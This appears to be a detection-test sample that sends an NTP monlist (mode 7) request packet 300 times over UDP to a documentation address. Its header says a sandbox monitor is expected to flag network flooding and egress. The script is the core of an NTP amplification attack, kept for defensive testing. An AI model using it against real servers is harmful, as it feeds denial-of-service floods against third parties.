# scenario: 20 amplification
# expect: network.flood network.egress
# ruff: noqa (deliberately risky sample code, written for this corpus; runs only inside the sandbox)
# The NTP monlist request (mode 7) sent repeatedly.
import socket

monlist = b"\x17\x00\x03\x2a" + b"\x00" * 4
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(300):
    try:
        sock.sendto(monlist, ("192.0.2.1", 123))
    except OSError:
        break
print("done")
